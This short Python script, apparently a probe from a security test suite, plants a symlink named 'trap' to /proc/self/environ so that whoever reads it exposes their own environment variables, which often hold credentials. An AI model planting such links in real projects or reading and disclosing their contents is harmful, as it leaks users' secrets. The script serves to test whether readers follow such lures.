# Tries: a link to the variables of whoever reads it.
# Success: a reader follows it.
import os

os.symlink("/proc/self/environ", "trap")
print("ATTEMPTED")
